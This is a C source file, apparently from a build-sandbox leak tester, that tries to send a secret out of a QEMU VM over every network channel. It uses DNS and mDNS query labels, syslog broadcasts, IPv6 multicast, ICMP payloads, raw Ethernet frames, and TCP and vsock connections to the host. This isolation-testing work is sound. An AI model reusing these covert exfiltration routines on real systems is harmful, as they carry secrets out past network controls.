/* Leaks over the network: what no service asked for, by every protocol and on every card. */
#define _GNU_SOURCE
#include "leaky.h"

#include <arpa/inet.h>
#include <linux/fib_rules.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { SERVED_TABLE = 100, RULE_PRIORITY = 200, ELSEWHERE_TCP = 8443, ECHO_UDP = 7, TRIES = 600, PAUSE_MS = 100 };
enum { DNS = 53, DHCP_CLIENT = 68, DHCP_SERVER = 67, NTP = 123, SYSLOG = 514, MDNS = 5353, ETHERTYPE = 0x88b5 };
#define ROUTER 0x0a000202     /* 10.0.2.2: QEMU's host */
#define RESOLVER 0x0a000203   /* 10.0.2.3: its name server */
#define NEIGHBOUR 0x0a000263  /* 10.0.2.99: nobody, so it is asked for by ARP */
#define EVERYBODY 0xffffffff
#define MDNS_GROUP 0xe00000fb /* 224.0.0.251 */

static struct sockaddr_in at_address(uint32_t address, uint16_t port)
{
    return (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {htonl(address)}};
}

void route_everything(void)
{
    struct { struct nlmsghdr header; struct fib_rule_hdr rule; struct rtattr head; uint32_t priority; } request = {
        .header = {.nlmsg_len = sizeof request, .nlmsg_type = RTM_NEWRULE,
                   .nlmsg_flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_EXCL},
        .rule = {.family = AF_INET, .action = FR_ACT_TO_TBL, .table = SERVED_TABLE},
        .head = {.rta_len = sizeof(struct rtattr) + 4, .rta_type = FRA_PRIORITY},
        .priority = RULE_PRIORITY,
    };
    int netlink = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    send(netlink, &request, sizeof request, 0);
    close(netlink);
}

void wait_for_network(void)
{
    int probe = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct ifreq request = {.ifr_name = "eth0"};
    for (int tries = 0; tries < TRIES && ioctl(probe, SIOCGIFADDR, &request); tries++)
        poll(NULL, 0, PAUSE_MS);
    close(probe);
}

static int listen_at(int type, uint16_t port)
{
    struct sockaddr_in any = at_address(INADDR_ANY, port);
    int listener = socket(AF_INET, type | SOCK_CLOEXEC, 0);
    if (bind(listener, (struct sockaddr *)&any, sizeof any) == 0 && type == SOCK_STREAM)
        listen(listener, 16);
    return listener;
}

int listen_elsewhere(void) { return listen_at(SOCK_STREAM, ELSEWHERE_TCP); }
int echo_elsewhere(void) { return listen_at(SOCK_DGRAM, ECHO_UDP); }

int listen_for_gate(void)
{
    static const struct sockaddr_un address = {AF_UNIX, "\0blindbuild-leak"};  /* abstract: no file, no chroot */
    int gate = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    bind(gate, (const struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + sizeof "blindbuild-leak");
    return gate;
}

static void send_datagram(uint32_t address, uint16_t port, uint16_t from, const char *text, size_t size)
{
    static const int one = 1;
    struct sockaddr_in there = at_address(address, port), here = at_address(INADDR_ANY, from);
    int udp = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    setsockopt(udp, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
    setsockopt(udp, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5);
    setsockopt(udp, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (from)
        bind(udp, (struct sockaddr *)&here, sizeof here);
    sendto(udp, text, size, 0, (struct sockaddr *)&there, sizeof there);
    close(udp);
}

/* A question for a name that is the secret. Source: RFC 1035, section 4.1. */
static void ask_name(uint32_t server, uint16_t port, const void *secret, size_t size)
{
    static const char header[12] = {0x12, 0x34, 1, 0, 0, 1}, tail[] = "\7invalid\0\0\1\0\1";
    char message[128], text[TEXT_CAPACITY];
    size_t label = encode(HEX, secret, size, text);
    if (label > 60)
        label = 60;
    memcpy(message, header, sizeof header);
    message[12] = (char)label;
    memcpy(message + 13, text, label);
    memcpy(message + 13 + label, tail, sizeof tail - 1);
    send_datagram(server, port, port == MDNS ? MDNS : 0, message, 13 + label + sizeof tail - 1);
}

static void leak_datagrams(const void *secret, size_t size)
{
    char text[TEXT_CAPACITY], clock[48] = {0x23}, lease[300] = {1, 1, 6};  /* NTP version 4; a client asks for a lease */
    send_datagram(EVERYBODY, SYSLOG, 0, text, encode(RAW, secret, size, text));
    send_datagram(NEIGHBOUR, SYSLOG, 0, text, encode(BASE64, secret, size, text));
    ask_name(RESOLVER, DNS, secret, size);
    ask_name(MDNS_GROUP, MDNS, secret, size);
    send_datagram(ROUTER, NTP, NTP, clock, sizeof clock);
    struct ifreq card = {.ifr_name = "eth0"};
    int probe = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    ioctl(probe, SIOCGIFHWADDR, &card);  /* QEMU's server would take another one for the address of eth0 */
    close(probe);
    memcpy(lease + 28, card.ifr_hwaddr.sa_data, ETH_ALEN);
    memcpy(lease + 236, "\x63\x82\x53\x63\x35\1\1\xff", 8);  /* RFC 2132: DHCPDISCOVER */
    send_datagram(EVERYBODY, DHCP_SERVER, DHCP_CLIENT, lease, sizeof lease);
}

/* A member of a group says so by IGMP; leaving and joining makes it say so again. */
static void join_group(void)
{
    static int member = -1;
    struct ip_mreqn group = {.imr_multiaddr = {htonl(MDNS_GROUP)}, .imr_ifindex = (int)if_nametoindex("eth0")};
    close(member);
    member = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    setsockopt(member, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group);
}

static void leak_by_ipv6(const void *secret, size_t size)
{
    char text[TEXT_CAPACITY];
    struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_port = htons(SYSLOG), .sin6_scope_id = if_nametoindex("eth0")};
    int udp = socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
    sendto(udp, text, encode(HEX, secret, size, text), 0, (struct sockaddr *)&all, sizeof all);
    close(udp);
}

/* Source: RFC 792. Without a checksum: nobody needs to answer. */
static void ping(const void *secret, size_t size)
{
    char message[8 + TEXT_CAPACITY] = {8};
    struct sockaddr_in there = at_address(ROUTER, 0);
    int raw = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_ICMP);
    sendto(raw, message, 8 + encode(UTF16, secret, size, message + 8), 0, (struct sockaddr *)&there, sizeof there);
    close(raw);
}

static void leak_by_frames(const void *secret, size_t size)
{
    char text[TEXT_CAPACITY];
    size_t length = encode(RAW, secret, size, text);
    int packet = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, htons(ETHERTYPE));
    struct if_nameindex *cards = if_nameindex();
    for (struct if_nameindex *card = cards; card && card->if_index; card++) {
        struct ifreq up = {.ifr_flags = IFF_UP};
        struct sockaddr_ll all = {.sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE), .sll_halen = ETH_ALEN,
                                  .sll_ifindex = (int)card->if_index, .sll_addr = "\xff\xff\xff\xff\xff\xff"};
        if (!strcmp(card->if_name, "lo"))
            continue;
        snprintf(up.ifr_name, sizeof up.ifr_name, "%.15s", card->if_name);
        ioctl(packet, SIOCSIFFLAGS, &up);
        sendto(packet, text, length, 0, (struct sockaddr *)&all, sizeof all);
    }
    if_freenameindex(cards);
    close(packet);
}

static void call_out(int family, const void *address, socklen_t size)
{
    int stream = socket(family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    connect(stream, address, size);
    poll(&(struct pollfd){.fd = stream, .events = POLLOUT}, 1, PAUSE_MS);
    close(stream);
}

void leak_to_network(const void *secret, size_t size)
{
    struct sockaddr_in router = at_address(ROUTER, ELSEWHERE_TCP);
    struct sockaddr_vm host = {.svm_family = AF_VSOCK, .svm_port = ELSEWHERE_TCP, .svm_cid = VMADDR_CID_HOST};
    join_group();
    leak_datagrams(secret, size);
    leak_by_ipv6(secret, size);
    ping(secret, size);
    leak_by_frames(secret, size);
    call_out(AF_INET, &router, sizeof router);
    call_out(AF_VSOCK, &host, sizeof host);
}
